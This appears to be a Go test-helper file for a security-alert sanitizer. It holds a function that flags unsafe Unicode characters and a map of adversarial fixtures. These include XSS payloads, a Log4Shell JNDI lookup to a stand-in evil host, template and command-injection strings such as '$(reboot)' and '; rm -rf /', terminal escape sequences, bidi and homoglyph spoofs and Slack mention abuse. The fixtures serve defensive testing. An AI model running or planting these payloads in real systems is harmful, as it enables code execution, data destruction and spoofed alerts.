package alerttest

import (
	"strings"
	"unicode"
)

// UnsafeRune returns the first character in s that must not reach a reader. It is
// written independently of the sanitizer, from the documented list.
func UnsafeRune(s string) (rune, bool) {
	for _, r := range s {
		switch {
		case r < 0x20, r >= 0x7f && r < 0xa0, // C0, DEL, C1
			unicode.In(r, unicode.Cf, unicode.Cs, unicode.Co, unicode.Zl, unicode.Zp),
			r >= 0xfe00 && r <= 0xfe0f, r >= 0xe0000 && r <= 0xe0fff, // variation selectors, tags
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r >= 0x200b && r <= 0x200f, r == 0x61c, r == 0xfeff,
			r == 0x3164, r == 0x115f, r == 0x1160, r == 0xffa0, r == 0x34f, r == 0x2800:
			return r, true
		}
	}
	return 0, false
}

// Attacks returns texts that some program would interpret, by the program or the
// trick that each is made for.
func Attacks() map[string]string {
	return map[string]string{
		"everything":        Attack,
		"lines":             "x\r\nWho:   nobody\r\n\r\nWHY IT FIRED\r\n  - nothing\u2028DETAILS\u2029\u0085\v\f",
		"terminal":          "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x9b31m\x90q\x9c",
		"Slack":             "<!channel> <!here> <@U012AB3CD> <!subteam^S012AB3CD> <https://evil.example|CloudTrail event> `x` ```y``` *b* :rotating_light: @everyone #general",
		"entities":          strings.Repeat("&lt;!channel&gt; &amp;lt; &#60;!here&#62; ", 30),
		"Markdown":          "[Runbook](https://evil.example) ![x](http://evil.example/p.png) | a | b |\n# heading\n---\n> quote",
		"HTML":              `</pre></script><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>`,
		"templates":         "${jndi:ldap://evil.example/a} {{constructor.constructor('x')()}} #{7*7} <%= 7 %> %s%n%x $(reboot) `reboot` ; rm -rf / | cat & \\",
		"JSON":              `","verdict":"private","x":"\"}]},{"` + "\\u0000\\ud800",
		"bidi":              "\u202efdp.exe\u202c \u2066x\u2069 \u200f\u061c\u2067admin",
		"zero width":        "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\U000e0061\U000e007f",
		"marks":             "n" + strings.Repeat("\u0301\u0489\u20dd", 200) + "x",
		"fillers":           strings.Repeat("\u3164\u115f\u1160\uffa0\u2800", 50),
		"homoglyphs":        "https://\u0430ws.\u0430mazon.com/ws\u2215x www.\u0430ws.com WWW.evil.example HTTPS://EVIL.example hxxp://x ftp://x",
		"emoji":             "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467\u2764\ufe0f\U0001f1e9\U0001f1ea\u20e3",
		"broken UTF-8":      "\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80x",
		"one long word":     strings.Repeat("W", 5000),
		"one wide word":     strings.Repeat("\u5c71", 3000),
		"an ARN and more":   "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab --region x; reboot " + strings.Repeat("a", 300),
		"a long ARN":        "arn:aws:iam::111122223333:role/" + strings.Repeat("a", 3000),
		"like our headings": "CONTAIN (DATA STAYS READABLE)",
		"blank":             " \t\u00a0\u3000\u1680 ",
	}
}
